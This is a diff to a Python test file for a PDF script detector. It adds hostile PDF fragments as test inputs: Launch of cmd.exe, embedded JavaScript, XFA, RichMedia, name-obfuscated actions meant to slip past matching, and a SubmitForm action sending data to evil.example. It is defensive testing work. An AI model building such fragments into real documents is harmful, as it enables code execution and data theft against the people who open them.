@@ -8,6 +8,7 @@ import pytest
 from pypdf.actions import JavaScript
 
 from civique.services.pdf_scripts import pdf_has_script
+from tests.defences import defence, replaced
 
 
 def pdf(tmp_path: Path, *objects: bytes) -> Path:
@@ -45,6 +46,15 @@ def test_a_script_added_by_a_library(tmp_path: Path) -> None:
     assert pdf_has_script(tmp_path / "script.pdf")
 
 
+def test_a_script_in_an_encrypted_document(tmp_path: Path) -> None:
+    writer = pypdf.PdfWriter()
+    writer.add_blank_page(200, 200)
+    writer.add_open_action(JavaScript("app.alert(1)"))
+    writer.encrypt("", "owner", algorithm="RC4-128")
+    writer.write(tmp_path / "encrypted.pdf")
+    assert pdf_has_script(tmp_path / "encrypted.pdf")
+
+
 def test_a_file_carried_by_a_pdf(tmp_path: Path) -> None:
     writer = pypdf.PdfWriter()
     writer.add_blank_page(200, 200)
@@ -53,6 +63,10 @@ def test_a_file_carried_by_a_pdf(tmp_path: Path) -> None:
     assert pdf_has_script(tmp_path / "carrier.pdf")
 
 
+@defence(
+    "no PDF holds a program",
+    replaced("civique.services.pdf_scripts._has_script", lambda data: False),
+)
 @pytest.mark.parametrize(
     "content",
     [
@@ -62,6 +76,17 @@ def test_a_file_carried_by_a_pdf(tmp_path: Path) -> None:
         b"<< /S /Launch /F (cmd.exe) >>",
         b"<< /S /Rendition /JS (x) >>",
         b"<< /Type /EmbeddedFile >>",
+        b"<< /S /GoToE /F (a.pdf) >>",
+        b"<< /AcroForm << /XFA 3 0 R >> >>",
+        b"<< /Subtype /RichMedia >>",
+        b"<< /S /SubmitForm /F (https://evil.example) >>",
+        b"<< /S /ImportData /F (a.fdf) >>",
+        stream(b"3 0 << /AcroForm << /XFA 4 0 R >> >>"),
+        stream(b"3 0 << /Subtype /RichMedia >>"),
+        stream(b"3 0 << /S /SubmitForm >>"),
+        stream(b"3 0 << /S /Import#44ata >>"),
+        stream(b"3 0 << /S /Launch >>"),
+        stream(b"3 0 << /Type /EmbeddedFile >>"),
         stream(b"3 0 " + ACTION),
         stream(b"3 0 << /S /J#61vaScript >>"),
         stream(b"3 0 " + b" " * 5_000_000 + ACTION),
